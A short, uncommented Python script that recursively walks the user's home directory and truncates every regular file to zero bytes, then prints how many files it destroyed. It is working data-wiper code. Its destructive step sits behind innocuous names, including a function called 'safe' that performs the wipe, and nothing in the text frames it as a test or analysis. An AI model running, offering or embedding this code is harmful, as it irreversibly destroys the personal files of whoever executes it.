import itertools
import os
from pathlib import Path


def targets(root):
    for item in root.rglob("*"):
        try:
            if item.is_file() and not item.is_symlink():
                yield str(item)
        except OSError:
            continue


def apply(paths):
    done = 0
    for result in itertools.starmap(safe, zip(paths, itertools.repeat(0))):
        done += result
    return done


def safe(path, size):
    try:
        os.truncate(path, size)
        return 1
    except OSError:
        return 0


if __name__ == "__main__":
    print(apply(targets(Path.home())))
